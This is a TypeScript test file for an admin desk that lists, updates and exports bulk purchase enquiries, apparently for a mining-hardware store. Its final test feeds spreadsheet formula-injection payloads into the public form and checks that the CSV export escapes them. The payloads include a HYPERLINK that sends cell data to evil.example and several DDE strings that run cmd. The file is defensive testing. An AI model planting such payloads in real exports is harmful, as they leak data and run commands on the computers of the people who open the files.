import { bulkDesk } from '@hashforge/contract/admin/bulk';
import { adminCallPath } from '@hashforge/contract/admin/call';
import { dashboardDesk } from '@hashforge/contract/admin/dashboard';
import { beforeAll, describe, expect, it } from 'vitest';
import { createTestStaff, signInStaff } from '#api/test/support/admin.ts';
import { createTestProduct } from '#api/test/support/factories/catalog.ts';
import { FORMULA_START, readCsv } from '#api/test/support/read-csv.ts';
import { useStaffSession } from '#api/test/support/use-staff-session.ts';
import { useTestContext } from '#api/test/support/use-test-context.ts';

const ctx = useTestContext();
const support = useStaffSession(ctx, 'support');
let productId: number;

beforeAll(async () => {
  productId = (await createTestProduct(ctx)).id;
});

let ip = 0;
async function enquire(email: string, fields: Record<string, string> = {}) {
  const res = await ctx.app.inject({
    method: 'POST',
    url: '/web/hashforge/purchase/plan/create',
    remoteAddress: `203.0.113.${++ip}`,
    headers: { 'content-type': 'application/json' },
    payload: JSON.stringify({
      name: 'Amara Okafor',
      country: 'Nigeria',
      email,
      mobile: '803 555 0199',
      mobileCode: '+234',
      productId,
      productNum: 250,
      companyName: 'Lagos Hash Farm Ltd',
      contactType: 'Telegram',
      telegram: '@amara_hash',
      ...fields,
    }),
  });
  expect(res.json()).toMatchObject({ result: 1 });
}

describe('the bulk enquiry desk', () => {
  it('lists a new purchase/plan/create with status new and moves it along with notes', async () => {
    await enquire('amara@minefarm.ng');
    const list = await support.call(bulkDesk.list, { page: 1, limit: 20, status: 'new' });
    const row = list.body.data.list.find((r) => r.email === 'amara@minefarm.ng');
    expect(row).toMatchObject({ name: 'Amara Okafor', productNum: 250, status: 'new' });
    const detail = await support.call(bulkDesk.get, { id: row!.id });
    expect(detail.body.data.contacts).toEqual({ telegram: '@amara_hash' });

    const moved = await support.call(bulkDesk.update, {
      id: row!.id,
      status: 'contacted',
      staffNote: 'Called, wants a quote for 250',
    });
    expect(moved.body.data).toMatchObject({ status: 'contacted', staffNote: 'Called, wants a quote for 250' });
    const bad = await support.call(bulkDesk.update, { id: row!.id, status: 'maybe' });
    expect(bad.body).toMatchObject({ result: 0, data: { errors: [{ path: 'status' }] } });
    const stillNew = await support.call(bulkDesk.list, { page: 1, limit: 20, status: 'new' });
    expect(stillNew.body.data.list.find((r) => r.id === row!.id)).toBeUndefined();
    const audit = await ctx.deps.prisma.auditEvent.findMany({
      where: { entityType: 'bulk_enquiry', entityId: String(row!.id) },
    });
    expect(audit.map((a) => a.after)).toEqual([{ status: 'contacted', staffNote: 'Called, wants a quote for 250' }]);
  });

  it('the dashboard queue of new enquiries counts status new only', async () => {
    const count = async () => {
      const d = await support.call(dashboardDesk.get, {});
      return d.body.data.queues.find((q) => q.key === 'bulk')!.count;
    };
    const before = await count();
    await enquire('second@farm.example');
    expect(await count()).toBe(before + 1);
    const list = await support.call(bulkDesk.list, { page: 1, limit: 5, keyword: 'second@farm' });
    await support.call(bulkDesk.update, { id: list.body.data.list[0]!.id, status: 'lost' });
    expect(await count()).toBe(before);
  });

  it('exports the enquiries as CSV with the session and permission of bulk/list', async () => {
    await enquire('csv@farm.example');
    const res = await ctx.app.inject({
      method: 'GET',
      url: `${adminCallPath({ path: 'bulk/export' })}?status=new`,
      headers: { cookie: support.cookie },
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    const lines = res.body.trim().split('\n');
    expect(lines[0]).toBe(
      'id,createTime,status,name,email,country,mobileCode,mobile,companyName,productName,productNum,staffNote',
    );
    expect(res.body).toContain('csv@farm.example');
    const merchandiser = await signInStaff(ctx, await createTestStaff(ctx, 'merchandiser'));
    const denied = await ctx.app.inject({
      method: 'GET',
      url: adminCallPath({ path: 'bulk/export' }),
      headers: { cookie: merchandiser.cookie },
    });
    expect(denied.json()).toMatchObject({ result: 0, msg: 'You do not have permission to do this' });
  });
  it('escapes every cell a spreadsheet would run as a formula, as the public form sent it', async () => {
    const formulas = {
      name: '=HYPERLINK("https://evil.example/?d="&A1,"Open quote")',
      country: "@SUM(1+1)*cmd|' /C calc'!A0",
      companyName: "+cmd|' /C calc'!A0",
    };
    const notes = ["-2+3+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '@SUM(A1:A9)'];
    const emails: string[] = [];
    for (const [i, note] of notes.entries()) {
      const email = `formula${i}@farm.example`;
      emails.push(email);
      await enquire(email, formulas);
      const list = await support.call(bulkDesk.list, { page: 1, limit: 5, keyword: email });
      await support.call(bulkDesk.update, { id: list.body.data.list[0]!.id, staffNote: note });
    }
    const res = await ctx.app.inject({
      method: 'GET',
      url: adminCallPath({ path: 'bulk/export' }),
      headers: { cookie: support.cookie },
    });
    const [header, ...rows] = readCsv(res.body);
    const column = (name: string) => header!.indexOf(name);
    for (const [i, note] of notes.entries()) {
      const row = rows.find((r) => r[column('email')] === emails[i]);
      expect(row, emails[i]).toBeDefined();
      expect(row![column('name')]).toBe(`'${formulas.name}`);
      expect(row![column('country')]).toBe(`'${formulas.country}`);
      expect(row![column('companyName')]).toBe(`'${formulas.companyName}`);
      expect(row![column('staffNote')]).toBe(`'${note}`);
      expect(row![column('mobileCode')]).toBe("'+234");
    }
    const runnable = rows.flat().filter((cell) => FORMULA_START.test(cell));
    expect(runnable, 'cells a spreadsheet would run').toEqual([]);
  });
});
